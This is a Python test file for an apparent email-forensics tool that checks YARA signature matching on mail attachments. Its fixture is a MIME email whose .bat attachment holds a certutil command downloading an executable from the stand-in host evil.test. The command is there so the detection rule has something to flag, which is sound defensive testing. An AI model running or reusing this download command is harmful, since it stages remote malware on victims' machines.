from dataclasses import replace

import pytest

from bartizan.forensics.examination import Examination, ExaminedFile, Sign, Trait
from bartizan.forensics.signatures.rules import load_rules
from bartizan.mail.evidence import Organisation, Signature
from bartizan.mail.gathering import gather
from bartizan.mail.signatures import find_signatures

SCRIPT = b"certutil -urlcache -f https://evil.test/a.exe a.exe"
RAW = (
    b"From: a@b.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    b"--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n"
    b"--b\r\nContent-Type: application/octet-stream; name=a.bat\r\n\r\n" + SCRIPT + b"\r\n--b--\r\n"
)


@pytest.fixture(scope="module")
def rules():
    return load_rules()


@pytest.fixture
def facts():
    return gather(RAW, None, None, Organisation())


def test_parts_that_nobody_took_apart_are_matched(facts, rules):
    assert find_signatures(facts.message, facts.attachments, rules) == (
        Signature("yara", "certutil_chain", "part:2", "high"),
    )


def test_what_the_examination_found_is_taken_over(facts, rules):
    sign = Sign(Trait.SIGNATURE, "critical some_rule")
    file = ExaminedFile(("a.zip", "b.js"), "text", "text", 1, "0", signs=(sign,))
    attachment = replace(facts.attachments[0], examination=Examination((file,)))
    assert find_signatures(facts.message, (attachment,), rules) == (
        Signature("yara", "some_rule", "part:2 a.zip / b.js", "critical"),
        Signature("yara", "certutil_chain", "part:2", "high"),
    )


def test_a_rule_is_told_once_a_part(facts, rules):
    sign = Sign(Trait.SIGNATURE, "high certutil_chain")
    file = ExaminedFile(("a.bat",), "text", "text", 1, "0", signs=(sign,))
    attachment = replace(facts.attachments[0], examination=Examination((file,)))
    assert find_signatures(facts.message, (attachment,), rules) == (
        Signature("yara", "certutil_chain", "part:2 a.bat", "high"),
    )


def test_without_rules_nothing_is_matched(facts):
    assert find_signatures(facts.message, facts.attachments, None) == ()
